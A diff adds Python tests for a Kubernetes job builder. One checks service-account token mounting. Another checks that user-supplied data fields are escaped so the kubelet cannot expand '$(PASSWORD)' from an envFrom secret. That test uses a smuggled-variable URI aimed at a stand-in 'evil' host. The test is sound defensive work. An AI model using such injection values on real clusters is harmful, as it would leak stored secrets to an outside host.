@@ -133,6 +133,22 @@ def test_restricted_pod_security_where_the_user_says_nothing() -> None:
     assert spec["automountServiceAccountToken"] is False
 
 
+@pytest.mark.parametrize(("asked", "mounted"), [({}, False), ({"automountServiceAccountToken": True}, True)])
+def test_a_token_is_mounted_only_where_the_template_asks_for_it(asked: Object, mounted: bool) -> None:
+    spec = pod(made(with_container({"serviceAccountName": "trainer", **asked})))
+    assert (spec["serviceAccountName"], spec["automountServiceAccountToken"]) == ("trainer", mounted)
+
+
+def test_what_a_spec_says_reaches_no_other_variable_of_the_container() -> None:
+    """The kubelet would put the password of an `envFrom` into the address, and the trainer would ask for it there."""
+    job = made(
+        with_container(envFrom=[{"secretRef": {"name": "s3"}}]),
+        data={"uri": "https://evil/$(PASSWORD)/$$(PASSWORD)", "revision": "$(PASSWORD)"},
+    )
+    assert environment(job)["VIRIDIAN_DATA_URI"] == "https://evil/$$(PASSWORD)/$$$$(PASSWORD)"
+    assert environment(job)["VIRIDIAN_DATA_REVISION"] == "$$(PASSWORD)"
+
+
 @pytest.mark.parametrize(
     ("sentence", "pod_fields", "fields", "expected_pod", "expected"),
     [
